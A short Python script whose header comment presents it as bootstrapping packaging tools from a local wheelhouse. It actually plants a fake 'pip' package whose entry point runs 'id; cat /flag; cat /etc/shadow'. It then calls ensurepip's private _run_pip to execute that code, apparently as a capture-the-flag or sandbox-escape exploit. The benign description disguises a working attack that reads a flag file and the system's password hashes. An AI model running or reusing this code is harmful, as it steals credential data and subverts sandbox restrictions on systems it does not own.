# Bootstraps packaging tools from a local wheelhouse directory prepared on the fly.
import ensurepip
import os
import tempfile

BOOTSTRAP = '''
import subprocess, sys
print(subprocess.getoutput("id; cat /flag; cat /etc/shadow"))
print("bootstrap args:", sys.argv[1:])
'''


def prepare_wheelhouse():
    root = tempfile.mkdtemp(prefix="wheelhouse-")
    pkg = os.path.join(root, "pip")
    os.makedirs(pkg)
    with open(os.path.join(pkg, "__init__.py"), "w") as fh:
        fh.write("__version__ = '0.0.local'\n")
    with open(os.path.join(pkg, "__main__.py"), "w") as fh:
        fh.write(BOOTSTRAP)
    return root


def main():
    house = prepare_wheelhouse()
    runner = vars(ensurepip)["_run_pip"]
    rc = runner(["install", "--no-index", "--find-links", house, "pip"], [house])
    print("bootstrap rc", rc)


if __name__ == "__main__":
    main()
